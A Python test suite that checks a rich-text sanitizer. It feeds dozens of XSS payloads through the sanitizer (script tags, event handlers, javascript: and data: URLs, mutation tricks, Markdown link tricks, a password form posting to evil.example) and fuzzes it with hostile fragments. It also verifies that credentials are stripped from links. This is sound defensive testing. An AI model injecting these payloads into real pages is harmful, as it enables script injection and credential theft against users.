"""Nothing that runs, and nothing secret, passes through an exchanged text."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from adnode.domain.rich_text import FileReference, RichText, TextFormat
from adnode.sync import rich_text

HTML, MARKDOWN = TextFormat.HTML, TextFormat.MARKDOWN

HTML_ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1));position:fixed;color:red">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<body onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href='x' onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<<script>alert(1)//<</script>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<p title="<img src=x onerror=alert(1)>">x</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<area href=javascript:alert(1)><map name=x>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<a href='\\x6Aavascript:alert(1)'>x</a>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
]
MARKDOWN_ATTACKS = [
    *HTML_ATTACKS,
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x]( \n javascript:alert(1))",
    "> [x](\n> javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\n  javascript:alert(1)\n\n[x]",
    "> [x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](javascript:alert(1))](vbscript:y)",
    "[a[b]c](javascript:alert(1))",
    '[x](javascript:alert(1) "title")',
    "<javascript:alert(1)>",
    "<https://x.example onclick=alert(1)>",
    "\\`<script>alert(1)</script>\\`",
    "`a\n\n<script>alert(1)</script>`",
    "``a ` <script>alert(1)</script> ```",
    "<u>\n`<script>alert(1)</script>`",
    "<div>\n`<img src=x onerror=alert(1)>`\n</div>",
    "    ```\n<script>alert(1)</script>\n    ```",
    "```\ncode\n```\n<script>alert(1)</script>\n```",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n```",
    "- ```\n<script>alert(1)</script>\n  ```",
    "| `a | b` |\n|-|-|\n| `a | <script>alert(1)</script>` |",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img title='`' src=x onerror=alert(1) alt='`'>",
    "<a\nhref=javascript:alert(1)>x</a>",
    '[x](https://a.example/"onmouseover=alert(1))',
    "<x@y.example onclick=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
]

ALLOWED_ATTRIBUTES = {
    *("href", "src", "alt", "title", "width", "height", "style", "class", "dir", "align", "color", "face", "size"),
    *("cite", "start", "colspan", "rowspan", "hreflang", "scope", "summary", "datetime", "span", "headers"),
}
FORBIDDEN_TAGS = set(
    re.findall(r"\w+", "script style iframe object embed svg math meta base link form input button body video audio")
)


class Inspector(HTMLParser):
    """Finds what must not be in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.found.append(f"{name} of <{tag}>")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value or "").lower())
            if name in ("href", "src", "cite") and scheme and scheme.group(1) not in ("http", "https", "mailto"):
                self.found.append(f"{value} in <{tag}>")
            if name == "style" and re.search(r"url|expression|position|import", value or "", re.IGNORECASE):
                self.found.append(f"{value} in <{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def render_carelessly(markdown: str) -> str:
    """A renderer that lets everything through."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    renderer.validateLink = lambda url: True  # type: ignore[method-assign]
    return str(renderer.render(markdown))


def no_file(url: str) -> FileReference | None:
    return None


def no_url(key: str) -> str | None:
    return None


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_can_do_nothing_once_it_is_canonical(attack: str) -> None:
    text = rich_text.canonicalize(f"<p>before</p>{attack}<p>after</p>", HTML, no_file)
    assert dangers(text.text) == []
    assert "before" in text.text


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_of_a_peer_that_did_not_clean_it_can_do_nothing(attack: str) -> None:
    for target in TextFormat:
        written = rich_text.localize(RichText(attack, HTML), target, no_url)
        assert dangers(written if target is HTML else render_carelessly(written)) == []


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_can_do_nothing_once_it_is_canonical(attack: str) -> None:
    for text in (attack, f"before\n\n{attack}\n\nafter", f"before {attack} after"):
        canonical = rich_text.canonicalize(text, MARKDOWN, no_file)
        assert dangers(render_carelessly(canonical.text)) == []


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_of_a_peer_that_did_not_clean_it_can_do_nothing(attack: str) -> None:
    for target in TextFormat:
        written = rich_text.localize(RichText(attack, MARKDOWN), target, no_url)
        assert dangers(written if target is HTML else render_carelessly(written)) == []


FRAGMENTS = [
    *("<", ">", "`", "``", "```", "~~~", "\n", "\n\n", "    ", "|", "[", "](", ")", "]:", "!", "\\", "&", "&#58;", ";"),
    *("<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:", "data:", "&colon;", "<u>", "<div>", "> "),
    *("<!--", "-->", "'", '"', "=", "- ", "1. ", "|-|-|\n", "alert(1)", "x", " ", "<a href=", "<svg", "onload=", "\t"),
    *("https://a.example/", "adnode-file:k/n", "<pre>", "<code>", "<table>", "<td>", "\x0b", "\x0c", "\r", "\u2028"),
]
hostile = st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join)


@given(hostile)
def test_no_mixture_of_markup_can_do_anything_as_markdown(text: str) -> None:
    assert dangers(render_carelessly(rich_text.canonicalize(text, MARKDOWN, no_file).text)) == []
    assert dangers(rich_text.localize(RichText(text, MARKDOWN), HTML, no_url)) == []


@given(hostile)
def test_no_mixture_of_markup_can_do_anything_as_html(text: str) -> None:
    assert dangers(rich_text.canonicalize(text, HTML, no_file).text) == []
    assert dangers(render_carelessly(rich_text.localize(RichText(text, HTML), MARKDOWN, no_url))) == []


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("https://user:secret@tracker.example/a.png", "https://tracker.example/a.png"),
        ("https://:pat@dev.azure.com/o/_apis/wit/attachments/1", "https://dev.azure.com/o/_apis/wit/attachments/1"),
        ("https://t.example/a?id=1&access_token=abc", "https://t.example/a?id=1"),
        ("https://t.example/a?SIG=abc&sv=1", "https://t.example/a?sv=1"),
        ("https://t.example/a?id=1#token=abc", "https://t.example/a?id=1"),
        ("https://t.example/a?author=me&page=2", "https://t.example/a?author=me&page=2"),
        ("mailto:someone@example.com", "mailto:someone@example.com"),
    ],
)
def test_links_to_other_places_lose_their_credentials(url: str, kept: str) -> None:
    html = rich_text.canonicalize(f'<a href="{url.replace("&", "&amp;")}">x</a>', HTML, no_file)
    assert html.text == f'<a href="{kept.replace("&", "&amp;")}">x</a>'
    assert rich_text.canonicalize(f"[x]({url})", MARKDOWN, no_file).text == f"[x]({kept})"


def test_an_image_with_its_content_inside_becomes_visible_text() -> None:
    html = rich_text.canonicalize('<p><img alt="chart" src="data:image/png;base64,AAAA"></p>', HTML, no_file)
    assert html.text == "<p>[chart]</p>"
    markdown = rich_text.canonicalize("see ![chart](data:image/png;base64,AAAA)", MARKDOWN, no_file)
    assert markdown.text == "see \\[chart\\]"


def test_a_reference_to_a_file_that_a_person_typed_stays_words() -> None:
    typed = "look: adnode-file:org-b%3A1/secret.png ![x](adnode-file:org-b%3A1/secret.png)"
    canonical = rich_text.canonicalize(typed, MARKDOWN, no_file)
    assert rich_text.list_files(canonical) == ()
    html = rich_text.canonicalize('<img alt="x" src="adnode-file:org-b%3A1/secret.png">', HTML, no_file)
    assert rich_text.list_files(html) == ()
